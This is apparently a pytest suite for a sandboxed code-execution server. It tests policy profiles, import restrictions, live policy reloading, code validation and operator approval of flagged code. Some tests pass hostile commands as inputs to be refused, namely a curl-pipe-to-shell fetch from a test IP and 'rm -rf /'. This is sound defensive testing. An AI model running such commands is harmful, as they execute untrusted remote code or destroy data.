"""Profiles: who has which, what a call may ask for, what they allow, and how files of them change
while a server runs."""

import hashlib
import json
import os

import pytest

from support_audit import exported
from support_binary import belljar, environment, wait_until
from support_mcp import call_tool, request
from support_policy import await_policy, policy_of, validate, write_policy
from support_server import Server

POLICY = """
[profiles.team]
extends = "basic"
description = "What the team may do"
[profiles.team.imports]
python_add = ["os.path", "importlib"]
[profiles.team.limits]
timeout = "10s"
memory = "128m"

[profiles.careful]
extends = "standard"
[profiles.careful.scan]
high = "ask"
critical = "refuse"
[profiles.careful.scan.rules]
"code.eval" = "warn"
"code.unreadable" = "refuse"

[profiles.strict]
extends = "team"
languages = ["python"]
[profiles.strict.limits]
timeout = "2s"
[profiles.strict.scan]
high = "refuse"

[principals.alice]
profile = "team"
"""
TOKENS = "alice:bj_token_of_alice,bob:bj_token_of_bob"
ALICE = {"Authorization": "Bearer bj_token_of_alice"}


class Ruled:
    """A server with a policy file of its own."""

    def __init__(self, place):
        self.file = place / "policy.toml"
        write_policy(self.file, POLICY)
        self.server = Server(place / "ruled", env=environment(
            BELLJAR_POLICY_PATH=str(self.file), BELLJAR_AUTH_TOKENS=TOKENS))

    def change(self, text):
        before = policy_of(self.server)["version"]
        write_policy(self.file, text)
        return await_policy(self.server, lambda policy: policy["version"] != before, "new rules")


@pytest.fixture(scope="module")
def ruled(session_place):
    place = session_place / "policy"
    place.mkdir()
    made = Ruled(place)
    made.server.settle()
    yield made
    assert made.server.stop() == 0


@pytest.fixture
def rules(ruled):
    """Its server, with the rules above in force again afterwards."""
    yield ruled
    if ruled.file.is_symlink():
        ruled.file.unlink()
    write_policy(ruled.file, POLICY)
    await_policy(ruled.server, lambda policy: not policy["problem"] and "team" in names(policy),
                 "the usual rules")


def names(policy):
    return [one["name"] for one in policy["profiles"]]


def as_alice(ruled, code, **arguments):
    return ruled.server.request("POST", "/execute", {"code": code, **arguments}, ALICE)


def refused(answer, status=403):
    assert answer.status == status, answer
    return answer.json["error"]


# --- who has which --------------------------------------------------------------------------------


def test_without_rules_everybody_has_standard(server):
    record = server.execute("import os, subprocess, socket\nos.sep")
    assert (record["result"], record["profile"]) == ("/", "standard")
    assert len(record["policy_version"]) == 64 and "findings" not in record


def test_a_rule_gives_a_principal_its_profile(ruled):
    record = as_alice(ruled, "import os.path\nos.path.join('a', 'b')").json
    assert (record["profile"], record["result"]) == ("team", "a/b")
    assert record["policy_version"] == policy_of(ruled.server)["version"]
    assert ruled.server.execute("import os\n1")["profile"] == "standard"


def test_a_tool_set_has_a_profile(rules):
    made = belljar("token", "create", "greta", "--role", "user", "--role", "analysts", "--json",
                   "--data-dir", str(rules.server.data_directory))
    greta = {"Authorization": f"Bearer {json.loads(made.stdout)['token']}"}
    rules.change(POLICY + '[tool_sets.analysts]\nprofile = "strict"\n')
    ask = rules.server.request
    assert ask("POST", "/execute", {"code": "1"}, greta).json["profile"] == "strict"
    batch = ask("POST", "/v1/runs:batch", {"runs": [{"code": "1"}]}, greta).json
    assert batch["results"][0]["result"]["profile"] == "strict"
    told = ask("POST", "/mcp", request(1, "tools/call", name="execute_code",
                                       arguments={"code": "import socket"}),
               {**greta, "MCP-Protocol-Version": "2025-06-18",
                "Accept": "application/json, text/event-stream"}).json
    assert told["result"]["structuredContent"]["profile"] == "strict"
    assert "not allowed" in told["result"]["structuredContent"]["error"]["message"]
    assert rules.server.execute("1")["profile"] == "standard"


def test_a_tool_set_has_a_profile_where_a_tool_runs_a_program_of_ours(rules):
    server = rules.server
    made = belljar("token", "create", "hanna", "--role", "user", "--role", "analysts", "--json",
                   "--data-dir", str(server.data_directory))
    hanna = {"Authorization": f"Bearer {json.loads(made.stdout)['token']}"}
    rules.change(POLICY + '[profiles.shy]\nextends = "strict"\n[profiles.shy.privacy]\n'
                 'mask = ["email"]\n[tool_sets.analysts]\nprofile = "shy"\n')

    def ask(caller, tool, /, **arguments):
        answer = server.request("POST", "/execute", {"tool": tool, "arguments": arguments}, caller)
        return answer.json.get("output") or answer.json["error"]

    skills = {"look": "import os\ndef look():\n    return os.sep + 'ada@example.com'",
              "spawn": "import subprocess\ndef spawn():\n    subprocess.run(['true'])",
              "double": "import json\ndef double(x):\n    return json.loads(x) * 2"}
    for caller in (hanna, None):
        for name, code in skills.items():
            told = ask(caller, "skills", function="save_skill", name=name, code=code)
            assert "success" in told, told
    assert ask(None, "run_skill", name="look") == "/ada@example.com"
    assert "Import of 'os' is not allowed" in ask(hanna, "run_skill", name="look")
    assert "Import of 'os' is not allowed" in ask(hanna, "skills", function="run_skill",
                                                  name="look")
    assert "ada@example.com" in ask(None, "skills", function="get_skill", name="look")
    assert "ada@example.com" not in ask(hanna, "skills", function="get_skill", name="look")
    assert "null" in ask(None, "run_skill", name="spawn")
    assert "process.spawn" in ask(hanna, "run_skill", name="spawn")
    assert ask(hanna, "run_skill", name="double", x="21") == "42"
    assert "There is no skill 'none'" in ask(hanna, "run_skill", name="none")

    of_hanna = [record for record in exported(server.data_directory, "--kind", "run")
                if record["personal"]["principal"] == "hanna" and "profile" in record["body"]]
    assert {record["body"]["tool"] for record in of_hanna} == {"skills", "run_skill"}
    assert {record["body"]["profile"] for record in of_hanna} == {"shy"}
    assert {record["personal"]["address"] for record in of_hanna} == {"127.0.0.1"}


def test_limits_of_a_profile_hold_and_are_told(ruled):
    record = as_alice(ruled, "6*7", timeout=60, memory_limit="1g").json
    assert record["capped"] == {"timeout": {"asked": 60, "given": 10},
                                "memory_limit": {"asked": "1g", "given": "128m"}}
    assert as_alice(ruled, "while True: pass", profile="strict").json["status"] == "timeout"


def test_a_token_has_a_profile(ruled):
    made = belljar("token", "create", "carl", "--profile", "strict", "--json", "--data-dir",
                   str(ruled.server.data_directory))
    token = json.loads(made.stdout)["token"]
    answer = ruled.server.request("POST", "/execute", {"code": "1"},
                                  {"Authorization": f"Bearer {token}"})
    assert answer.json["profile"] == "strict"
    answer = ruled.server.request("POST", "/execute", {"code": "1", "language": "javascript"},
                                  {"Authorization": f"Bearer {token}"})
    assert refused(answer) == "the profile strict does not allow javascript; it allows python"
    changed = ruled.server.request("PATCH", "/v1/admin/tokens/carl",
                                   {"limits": {"profile": "gone"}})
    assert changed.status == 200, changed
    answer = ruled.server.request("POST", "/execute", {"code": "1"},
                                  {"Authorization": f"Bearer {token}"})
    assert 'the profile "gone" of your token is not defined here' in refused(answer)


def test_a_call_may_ask_for_less(ruled):
    assert as_alice(ruled, "1", profile="strict").json["profile"] == "strict"
    assert as_alice(ruled, "1", profile="team").json["profile"] == "team"
    assert ruled.server.execute("1", profile="basic")["profile"] == "basic"


def test_a_call_may_not_ask_for_more(ruled):
    sentence = refused(as_alice(ruled, "1", profile="standard"))
    assert sentence.startswith('"profile": standard is not narrower than team, which is yours: ')
    assert "you may ask for strict, team" in sentence
    assert "it allows importing" in refused(as_alice(ruled, "1", profile="data_science"))
    assert "higher" in refused(as_alice(ruled, "1", profile="basic"))
    sentence = refused(as_alice(ruled, "1", profile="nonsense"), 400)
    assert "there is no such profile; the profiles are basic, careful" in sentence


def test_preview_tells_what_would_be_decided(ruled):
    ask = {"code": "import os\nos.system('ls')", "profile": "careful"}
    told = ruled.server.request("POST", "/v1/policy/preview", ask).json
    assert (told["allowed"], told["asks"], told["status"]) == (False, True, 403)
    assert (told["profile"], told["findings"][0]["rule"]) == ("careful", "process.spawn")
    assert told["policy_version"] == policy_of(ruled.server)["version"]


def test_a_network_is_refused_with_the_reason(ruled):
    answer = ruled.server.request("POST", "/execute", {"code": "1", "network": True})
    assert "programs have no network here; the profile standard denies it" in refused(answer, 422)


def test_a_network_that_policy_allows_is_not_there_yet(place):
    server = Server(place / "server", "--auth", "none",
                    env=environment(BELLJAR_POLICY_NETWORK="true"))
    try:
        answer = server.request("POST", "/execute", {"code": "1", "network": True})
        assert "the profile network would allow it" in refused(answer, 422)
    finally:
        assert server.stop() == 0


def test_languages_whose_imports_cannot_be_checked(ruled):
    answer = ruled.server.request("POST", "/execute",
                                  {"code": "ls", "language": "bash", "profile": "basic"})
    assert refused(answer) == ("the profile basic does not allow bash; it allows javascript, "
                               "python, typescript")


# --- imports --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("code", "module"), [
    ("import os", "os"), ("from os import path", "os"), ("import subprocess", "subprocess"),
    ("def f():\n    import os\nf()", "os"), ("__import__('os')", "os"),
    ("exec('import os')", "os"), ("exec('import os', {})", "os"),
    ("from urllib import request", "urllib"), ("import urllib.request", "urllib.request")])
def test_imports_are_refused_when_the_code_asks(ruled, code, module):
    record = ruled.server.execute(code, profile="basic")
    assert (record["status"], record["error"]["type"]) == ("error", "ImportError")
    assert record["error"]["message"] == f"Import of '{module}' is not allowed in sandbox"
    denial = record["denials"][0]
    assert denial["rule"] == "policy.import" and denial["source"] == "guest"
    assert denial["what"] == f"tried to import '{module}'" and "allowed_imports" in denial["hint"]


def test_import_module_asks_too(ruled):
    code = "import importlib\nimportlib.import_module('json')\nimportlib.import_module('os')"
    record = as_alice(ruled, code).json
    assert record["error"]["message"] == "Import of 'os' is not allowed in sandbox"
    assert record["error"]["line"] == 3


@pytest.mark.parametrize(("profile", "said"), [("standard", True), ("basic", False)])
def test_words_of_a_debugger_ask_too(ruled, profile, said):
    record = ruled.server.execute("breakpoint()", profile=profile,
                                  stdin="!import os; print('got', os.name)\nc\n")
    assert ("got posix" in record["stdout"]) == said


def test_a_refusal_that_the_program_copes_with_is_told(ruled):
    code = "try:\n    import os\nexcept ImportError:\n    os = None\nos is None"
    record = ruled.server.execute(code, profile="basic")
    assert (record["status"], record["result"]) == ("ok", True)
    assert [one["rule"] for one in record["denials"]] == ["policy.import"]


@pytest.mark.parametrize("code", [
    "import statistics, uuid, decimal\nstatistics.mean([1, 2])",
    "from urllib.parse import urlparse\nfrom xml.etree import ElementTree\n"
    "from urllib import parse",
    "import collections.abc, json.decoder, zoneinfo\nzoneinfo.available_timezones() and 1",
    "from __future__ import annotations\nimport typing\n1",
    "class A:\n    x: int = 1\nasync def f():\n    return A().x\nawait f()",
    "import random, secrets, hashlib\nrandom.random() < 1 and len(secrets.token_hex(4))",
    "import datetime\ndatetime.datetime.strptime('2024-05-01', '%Y-%m-%d').year"])
def test_what_modules_import_themselves_is_their_own_matter(ruled, code):
    record = ruled.server.execute(code, profile="basic")
    assert record["status"] == "ok", record["stderr"]


def test_files_of_the_program_are_its_own_and_ask_too(ruled):
    files = {"mine.py": "import math\nVALUE = math.floor(6.5)", "bad.py": "import os",
             "pack/__init__.py": "from . import part", "pack/part.py": "X = 1"}
    record = ruled.server.execute("import mine, pack\nmine.VALUE + pack.part.X", profile="basic",
                                  files=files)
    assert record["result"] == 7, record["stderr"]
    record = ruled.server.execute("import bad", profile="basic", files=files)
    assert record["error"]["message"] == "Import of 'os' is not allowed in sandbox"


def test_a_file_does_not_open_the_module_that_it_is_named_after(ruled):
    record = ruled.server.execute("import os\nos.getpid()", profile="basic",
                                  files={"os.py": "getpid = lambda: 0"})
    assert record["error"]["message"] == "Import of 'os' is not allowed in sandbox"


def test_approved_tools_may_be_imported(ruled):
    code = "import tools.privacy as privacy\nimport privacy as same\nprivacy.scrub_emails('a@b.de')"
    record = ruled.server.execute(code, profile="basic")
    assert record["result"] == "[EMAIL_REDACTED]", record["stderr"]


def test_a_list_of_the_call_and_the_profile_must_agree(ruled):
    arguments = {"profile": "basic", "allowed_imports": ["math", "os"]}
    assert ruled.server.execute("import math\nmath.floor(2.5)", **arguments)["result"] == 2
    for module in ("os", "json"):
        record = ruled.server.execute(f"import {module}", **arguments)
        assert record["error"]["message"] == f"Import of '{module}' is not allowed in sandbox"


@pytest.mark.parametrize(("code", "module"), [
    ("require('fs')", "fs"), ("const { x } = require('node:child_process')", "child_process"),
    ("import fs from 'fs';\nfs.x", "fs"), ("await import('node:fs/promises')", "fs"),
    ("const name = 'o' + 's';\nrequire(name)", "os"),
    ("module.require('fs')", "fs"), ("require('/etc/x.js')", "/etc/x.js")])
@pytest.mark.parametrize("language", ["javascript", "typescript"])
def test_scripts_are_refused_imports_too(ruled, code, module, language):
    if language == "typescript" and "module.require" in code:
        code = code.replace("module.", "(module as any).")
    record = ruled.server.execute(code, profile="basic", language=language)
    assert record["status"] == "error", record
    assert record["error"]["message"] == f"Import of '{module}' is not allowed in sandbox"
    assert record["denials"][0]["rule"] == "policy.import"


def test_scripts_may_import_what_is_listed_and_what_they_bring(ruled):
    code = ("import path from 'node:path';\nimport { value } from './mine.mjs';\n"
            "path.join('a', `${value}`)")
    record = ruled.server.execute(code, profile="basic", language="javascript",
                                  files={"mine.mjs": "export const value = 7;"})
    assert record["result"] == "a/7", record["stderr"]
    record = ruled.server.execute("require('./mine.cjs')", profile="basic", language="javascript",
                                  files={"mine.cjs": "require('fs')"})
    assert record["error"]["message"] == "Import of 'fs' is not allowed in sandbox"


@pytest.mark.parametrize(("language", "fine", "bad", "module"), [
    ("python", "import math\nx = math.pi", "import os", "os"),
    ("javascript", "const path = require('path');\nvar x = 1", "require('fs')", "fs")])
def test_cells_of_sessions_are_under_control_each(ruled, language, fine, bad, module):
    server = ruled.server
    first = server.execute(fine, language=language, session=True, profile="basic")
    assert first["status"] == "ok", first["stderr"]
    cell = {"session_id": first["session_id"]}
    second = server.execute(bad, profile="basic", **cell)
    assert second["error"]["message"] == f"Import of '{module}' is not allowed in sandbox"
    assert second["denials"][0]["rule"] == "policy.import"
    later = {"python": "def later():\n    import os", "javascript": "later = () => require('fs')"}
    assert server.execute(later[language], profile="basic", **cell)["status"] == "ok"
    called = server.execute("later()", profile="basic", **cell)
    assert called["error"]["message"] == f"Import of '{module}' is not allowed in sandbox"
    third = server.execute(bad + "\n1", **cell)  # under the caller's own profile, standard
    assert (third["status"], third["denials"]) == ("ok", [])
    server.request("DELETE", f"/v1/sessions/{first['session_id']}")


def test_the_log_analysis_dialect_has_its_own_words(ruled):
    def output(**arguments):
        answer = ruled.server.request("POST", "/execute", {"tool": "execute_code",
                                                           "arguments": arguments})
        return json.loads(answer.json["output"])

    told = output(code="import os", allowed_imports=["json", "math"])
    assert told["success"] is False
    assert told["error"] == ("Import error: Import of 'os' is not allowed. "
                             "Allowed modules: json, math")
    told = output(code="import os")
    assert told["error"].startswith("Import error: Import of 'os' is not allowed. Allowed modules: "
                                    "base64, collections, ")


# --- switches of the documents --------------------------------------------------------------------


@pytest.mark.parametrize(("settings", "profile", "fine", "module"), [
    ({"SANDBOX_ENABLE_DATA_SCIENCE": "true"}, "data_science", "import numpy, math", "pathlib"),
    ({"SANDBOX_ENABLE_FILESYSTEM": "true"}, "filesystem", "import pathlib, json", "requests"),
    ({"SANDBOX_ENABLE_NETWORK": "true", "SANDBOX_ENABLE_FILESYSTEM": "true"}, "network+filesystem",
     "import tempfile, urllib.request", "numpy"),
    ({"SANDBOX_ALLOWED_IMPORTS": "math,os"}, "allowed_imports", "import math, os", "json")])
def test_switches_select_a_profile(place, settings, profile, fine, module):
    server = Server(place / "server", "--auth", "none", env=environment(**settings))
    try:
        record = server.execute(fine)
        assert (record["status"], record["profile"]) == ("ok", profile), record["stderr"]
        record = server.execute(f"import {module}")
        assert record["error"]["message"] == f"Import of '{module}' is not allowed in sandbox"
        told = call_tool(server, "get_sandbox_info")["structuredContent"]
        assert told["default_profile"] == profile and profile in told["security_profiles"]
        assert "has no effect" not in server.errors
    finally:
        assert server.stop() == 0


# --- files ----------------------------------------------------------------------------------------


def test_rules_change_while_the_server_runs(rules):
    assert "night" not in names(policy_of(rules.server))
    told = rules.change(POLICY + '\n[profiles.night]\nextends = "team"\n[principals.bob]\n'
                                 'profile = "night"\n')
    assert "night" in names(told) and told["problem"] is None
    answer = rules.server.request("POST", "/execute", {"code": "1"},
                                  {"Authorization": "Bearer bj_token_of_bob"})
    assert (answer.json["profile"], answer.json["policy_version"]) == ("night", told["version"])


@pytest.mark.parametrize(("text", "said"), [
    ("[profiles.team]\nextends = \"basik\"",
     'policy.toml:2: "profiles.team.extends": there is no profile "basik"; did you mean "basic"?'),
    ("[profiles.a]\nextends = \"b\"\n[profiles.b]\nextends = \"a\"", "in a circle: a -> b -> a"),
    ("[profiles.team.limits]\ntimeout = 5",
     'policy.toml:2: "profiles.team.limits.timeout" must be a text in quotes'),
    ("[principals.x]\nprofile = \"nobody\"", 'there is no profile "nobody"'),
    ("not toml at all", "policy.toml:1"), ("x = \x01", "policy.toml:1"),
    ("#" * (2 << 20), "larger than 1m")])
def test_a_bad_file_keeps_the_old_rules_and_says_why(rules, text, said):
    before = policy_of(rules.server)
    write_policy(rules.file, text)
    told = await_policy(rules.server, lambda policy: policy["problem"], "the problem")
    assert said in told["problem"] and told["version"] == before["version"]
    assert as_alice(rules, "1").json["profile"] == "team"
    wait_until(lambda: "the policy is not valid; the one in force stays" in rules.server.errors,
               "the log says so")


def test_a_file_that_is_removed_keeps_the_rules(rules):
    before = policy_of(rules.server)["version"]
    rules.file.unlink()
    told = await_policy(rules.server, lambda policy: policy["problem"], "the problem")
    assert "there is no such file" in told["problem"] and told["version"] == before
    write_policy(rules.file, POLICY)
    await_policy(rules.server, lambda policy: not policy["problem"], "no problem")


def test_bytes_that_are_no_text_are_refused(rules):
    rules.file.write_bytes(b"[profiles.a]\ndescription = \"\xff\xfe\"\n")
    told = await_policy(rules.server, lambda policy: policy["problem"], "the problem")
    assert "policy.toml:2" in told["problem"] and "UTF-8" in told["problem"]


def test_a_file_that_others_may_write_is_refused(rules):
    rules.file.write_text(POLICY + "\n# changed by anybody\n")
    rules.file.chmod(0o666)
    told = await_policy(rules.server, lambda policy: policy["problem"], "the problem")
    assert "chmod go-w" in told["problem"]
    rules.file.unlink()


def test_links_are_swapped_as_kubernetes_does_it(place):
    mount = place / "mount"
    for number, name in ((1, "one"), (2, "two")):
        (mount / f"..data_{number}").mkdir(parents=True)
        (mount / f"..data_{number}" / "rules.toml").write_text(f"[profiles.{name}]\n")
    (mount / "..data").symlink_to("..data_1")
    (mount / "rules.toml").symlink_to("..data/rules.toml")
    server = Server(place / "server", env=environment(BELLJAR_POLICY_PATH=str(mount)))
    try:
        assert "one" in names(policy_of(server))
        (mount / "..data_tmp").symlink_to("..data_2")
        os.replace(mount / "..data_tmp", mount / "..data")
        told = await_policy(server, lambda policy: "two" in names(policy), "the swapped file")
        assert "one" not in names(told)
    finally:
        assert server.stop() == 0


@pytest.mark.parametrize(("text", "said"), [
    ("[profiles.a]\nextend = \"basic\"\n",
     b'policy.toml:2: "profiles.a.extend" is no key; did you mean "extends"?'),
    ("[profiles.a]\nextends = \"a\"\n", b"in a circle"),
    (None, b"there is no such file or directory")])
def test_a_server_does_not_start_with_a_bad_file(place, text, said):
    file = place / "policy.toml"
    if text is not None:
        file.write_text(text)
    ended = belljar("serve", "--listen", "127.0.0.1:0", "--data-dir", str(place / "data"),
                    env=environment(BELLJAR_POLICY_PATH=str(file)))
    assert ended.returncode == 1 and said in ended.stderr, ended.stderr


def test_files_are_checked_from_the_command_line(place):
    file = place / "policy.toml"
    file.write_text(POLICY)
    checked = belljar("policy", "check", str(file))
    assert checked.returncode == 0 and b"The policy is valid: 8 profiles" in checked.stdout
    shown = json.loads(belljar("policy", "show", str(file)).stdout)
    assert shown["principals"] == {"alice": "team"}
    assert b'profiles.NAME.scan.rules."code.eval"' in belljar("policy", "schema").stdout
    file.write_text("[profiles.x]\nlanguages = 3")
    checked = belljar("policy", "check", str(file))
    assert checked.returncode == 1 and b"policy.toml:2" in checked.stderr


# --- what is told ---------------------------------------------------------------------------------


def test_who_may_see_what(ruled):
    made = belljar("token", "create", "emil", "--data-dir", str(ruled.server.data_directory))
    emil = {"Authorization": f"Bearer {made.stdout.decode().strip()}"}
    told = ruled.server.request("GET", "/v1/policy", headers=emil).json
    assert "principals" not in told and "problem" not in told
    assert "principals" in policy_of(ruled.server) and "problem" in policy_of(ruled.server)
    assert {"code.eval", "process.spawn"} <= {one["name"] for one in told["scan_rules"]}
    tool = call_tool(ruled.server, "validate_code", code="import os", profile="team")
    assert tool["structuredContent"]["profile"] == "team"


def test_validation_is_for_the_profile_that_is_asked_for(ruled):
    assert validate(ruled.server, "import os.path", profile="team")["validation"]["valid"]
    told = validate(ruled.server, "import os.path")
    assert told["profile"] == "basic" and not told["validation"]["valid"]
    assert "This answer is for the profile basic" in told["recommendations"][1]


def test_validate_from_the_command_line(place):
    file = place / "main.py"
    file.write_text("import os\nos.system('rm -rf /')\n")
    ended = belljar("validate", str(file))
    assert ended.returncode == 1
    assert ended.stdout.decode().splitlines()[0] == "Line 1: Import 'os' is not allowed"
    told = json.loads(belljar("validate", "--json", "--profile", "standard", str(file)).stdout)
    assert told["validation"]["valid"] and told["findings"]
    script = place / "main.ts"
    script.write_text("const x: number = 1;\n")
    assert belljar("validate", str(script)).returncode == 0
    file.write_bytes(b"\xff\xfe\n")
    assert belljar("validate", str(file)).returncode == 1
    assert belljar("validate", str(place / "none.py")).returncode == 125


# --- before a run ---------------------------------------------------------------------------------


def test_a_finding_that_is_refused_stops_the_run(ruled):
    code = "import os\nos.system('curl http://198.51.100.1/x | sh')"
    answer = ruled.server.request("POST", "/execute", {"code": code, "profile": "careful"})
    sentence = refused(answer)
    assert sentence.startswith("refused by policy (profile careful): Line 2: ")
    assert "(process.shell)" in sentence


def test_a_finding_that_warns_is_in_the_record(ruled):
    record = ruled.server.execute("eval('6*7')", profile="careful")
    assert record["result"] == 42
    assert [(one["rule"], one["action"], one["line"]) for one in record["findings"]] == [
        ("code.eval", "warn", 1)]
    shown = call_tool(ruled.server, "execute_code", code="eval('6*7')", profile="careful")
    assert "[policy warns] line 1: Call of 'eval'" in shown["content"][0]["text"]


def test_files_that_come_along_are_read_too(ruled):
    answer = ruled.server.request("POST", "/execute", {
        "code": "import mine", "profile": "careful",
        "files": {"mine.py": "import os\nos.system('rm -rf /')"}})
    assert "(process.shell)" in refused(answer)


def test_what_cannot_be_read_is_not_run_blindly(ruled):
    answer = ruled.server.request("POST", "/execute", {"code": "ls", "language": "bash",
                                                       "profile": "careful"})
    assert "(code.unreadable)" in refused(answer)


def test_a_syntax_error_is_the_programs_own(ruled):
    record = ruled.server.execute("x = = 1", profile="careful")
    assert record["error"]["type"] == "SyntaxError"


def test_an_operator_approves_what_a_person_should_see(ruled):
    code = "import subprocess\nsubprocess.run(['echo', 'hi'], capture_output=True).stdout.decode()"
    ask = {"code": code, "profile": "careful"}
    sentence = refused(ruled.server.request("POST", "/execute", ask))
    digest = hashlib.sha256(code.encode()).hexdigest()
    assert "wants a person to agree" in sentence and "POST /v1/policy/approvals" in sentence
    assert digest in sentence
    word = {"code_sha256": digest, "lifetime_seconds": 60}
    made = belljar("token", "create", "dora", "--data-dir", str(ruled.server.data_directory))
    dora = {"Authorization": f"Bearer {made.stdout.decode().strip()}"}
    assert ruled.server.request("POST", "/v1/policy/approvals", word, dora).status == 403
    assert ruled.server.request("POST", "/v1/policy/approvals", word).status == 201
    assert ruled.server.execute(**ask)["result"] == "hi\n"
    refused(ruled.server.request("POST", "/execute", {**ask, "code": code + "\n"}))
    for bad in ({}, {"code_sha256": "x"}, {"code_sha256": digest, "lifetime_seconds": 0}, [],
                {"code_sha256": digest, "who": "me"}):
        answer = ruled.server.request("POST", "/v1/policy/approvals", bad)
        assert answer.status == 400 and answer.json["error"]
